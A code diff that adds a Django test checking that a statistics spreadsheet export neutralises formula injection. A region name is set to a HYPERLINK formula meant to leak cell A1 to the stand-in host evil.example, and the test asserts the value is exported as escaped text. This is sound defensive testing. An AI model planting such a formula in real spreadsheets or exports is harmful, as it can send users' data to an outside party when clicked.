@@ -226,3 +226,27 @@ def test_stats_count_decisions_checks_and_export_xlsx(client, demo, huangchi_wor
     sheet = wb["监管统计"]
     names = [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)]
     assert "黄池镇" in names and "姑孰镇" in names
+
+
+def test_a_region_named_like_a_formula_is_exported_as_text(client, demo, huangchi_world):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    Region.objects.filter(code="340521101000").update(name=evil)  # 黄池镇
+    client.force_login(demo.user("supervisor"))
+    xlsx = client.get(reverse("review:stats_xlsx"), {"from": "2026-10-01", "to": "2026-12-31"})
+    wb = load_workbook(BytesIO(xlsx.content))
+    cells = [
+        cell
+        for sheet in wb.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
+    ]
+    assert {cell.parent.title for cell in cells} == {"监管统计", "决定(按类别)", "抽查问题(按类型)"}
+    assert all(cell.value == "'" + evil and cell.data_type == "s" for cell in cells)
+    summary = wb["监管统计"]
+    assert [c.value for c in summary[2]][:2] == ["乡镇(街道)", "决定总数"]
+    assert summary["A1"].value.startswith("监管统计 2026-10-01 至 2026-12-31")
